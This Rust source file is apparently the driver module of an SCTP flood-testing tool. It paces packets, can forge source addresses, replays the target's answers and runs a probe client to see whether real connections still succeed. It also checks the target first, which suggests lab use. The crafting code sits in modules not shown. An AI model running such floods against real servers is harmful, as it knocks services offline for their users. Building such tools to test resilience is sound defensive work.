//! The flood: packets at their rate, answers as they come, and a client beside it.

use crate::carrier::Carrier;
use crate::{
    Attack, Counts, Kind, Limits, MOST_SECONDS, Over, Probe, ProbeConfig, ProbeResult, check_target,
};
use rand::SeedableRng;
use rand_chacha::ChaCha12Rng;
use serde::Serialize;
use std::collections::VecDeque;
use std::net::SocketAddr;
use std::thread;
use std::time::{Duration, Instant};

/// What is to be done.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct Config {
    /// What is sent.
    pub kind: Kind,
    /// The listener: its address and SCTP port.
    pub target: SocketAddr,
    /// What SCTP goes in.
    pub over: Over,
    /// How much.
    pub limits: Limits,
    /// What makes addresses, ports and tags.
    pub seed: u64,
    /// Whether a real client tries to get in meanwhile.
    pub probe: bool,
}

/// What was done, and what came of it.
#[derive(Clone, PartialEq, Debug, Serialize)]
pub struct Report {
    /// What was sent.
    pub kind: Kind,
    /// Whether the addresses that it came from were forged.
    pub forged: bool,
    /// How long it took, in seconds.
    pub seconds: f64,
    /// Packets that the kernel took, those that answer the target among them.
    pub sent: u64,
    /// Those that it refused, for want of room.
    pub refused: u64,
    /// How long nothing was sent, in seconds, because an answer was waited for without which there is
    /// nothing to replay.
    pub waited: f64,
    /// Packets and answers by kind.
    pub counts: Counts,
    /// How the client fared.
    pub client: Option<ProbeResult>,
}

/// Sends a flood, in the calling thread and its network namespace, and tells now and then how many
/// packets have been sent. When that answers `false`, nothing more is sent, and the report is about what was.
///
/// # Errors
///
/// When the target is refused, or sockets cannot be had.
pub fn run(config: &Config, mut on_progress: impl FnMut(u64) -> bool) -> anyhow::Result<Report> {
    check_target(config.target.ip())?;
    let mut rng = ChaCha12Rng::seed_from_u64(config.seed);
    let addresses = ChaCha12Rng::from_rng(&mut rng);
    let mut carrier = Carrier::open(config.kind, config.target.ip(), config.over, addresses)?;
    let mut attack = Attack::new(config.kind, config.target.port(), carrier.sources(), rng);
    let probe = config
        .probe
        .then(|| Probe::start(config.target, config.over, ProbeConfig::default()))
        .transpose()?;
    let count = config.limits.count();
    let (mut sent, mut refused) = (0, 0);
    // What answers the target: it is sent in its turn, and counts as all else does.
    let mut answers = VecDeque::new();
    let begin = Instant::now();
    let (mut last_round, mut reported, mut last_answer) = (begin, begin, begin);
    let (mut paced, mut waited) = (Duration::ZERO, Duration::ZERO);
    let (mut is_waiting, mut is_ended, mut over_since) = (false, false, None);
    loop {
        let now = Instant::now();
        // No more becomes due while nothing can be sent, or it would all be sent at once thereafter.
        *(if is_waiting { &mut waited } else { &mut paced }) += now - last_round;
        last_round = now;
        is_waiting = false;
        let due = match over_since {
            None => config.limits.due(paced).saturating_sub(sent + refused),
            Some(_) => 0,
        };
        // Not all at once after a pause, or the answers would find no room.
        for _ in 0..due.min(AT_ONCE) {
            let Some(packet) = answers.pop_front().or_else(|| attack.next_attempt()) else {
                is_waiting = true;
                break;
            };
            if carrier.send(&packet) {
                sent += 1;
            } else {
                refused += 1;
            }
        }
        let has_received = carrier.receive(|source, packet| {
            let planned = sent + refused + answers.len() as u64;
            attack.set_silent(planned >= count || over_since.is_some());
            answers.extend(attack.handle_packet(source, packet));
        });
        if has_received {
            last_answer = now;
        }
        if now - reported > Duration::from_millis(100) {
            reported = now;
            is_ended = !on_progress(sent);
        }
        let is_late = now - begin >= Duration::from_secs(MOST_SECONDS);
        if sent + refused >= count || waited >= TIMEOUT || is_late || is_ended {
            let over_since = *over_since.get_or_insert(now);
            let quiet = now - last_answer >= LINGER || now - over_since >= MOST_LINGER;
            if carrier.is_forged() || quiet || waited >= TIMEOUT {
                break;
            }
        }
        if is_waiting || config.limits.due(paced) <= sent + refused {
            thread::sleep(TICK);
        }
    }
    let seconds = begin.elapsed().as_secs_f64();
    on_progress(sent);
    Ok(Report {
        kind: config.kind,
        forged: carrier.is_forged(),
        seconds,
        sent,
        refused,
        waited: waited.as_secs_f64(),
        counts: *attack.counts(),
        client: probe.map(Probe::stop).transpose()?,
    })
}

/// How often packets are sent that have become due.
const TICK: Duration = Duration::from_millis(1);

/// Packets that are sent before answers are read, and the clock.
pub(crate) const AT_ONCE: u64 = 256;

/// How long answers are waited for after the last one.
const LINGER: Duration = Duration::from_millis(300);

/// How long answers are waited for in all, when everything is sent: associations that are left behind
/// go on sending HEARTBEATs.
const MOST_LINGER: Duration = Duration::from_secs(2);

/// How long the association is waited for, and its end, without which there is nothing to replay.
const TIMEOUT: Duration = Duration::from_secs(15);
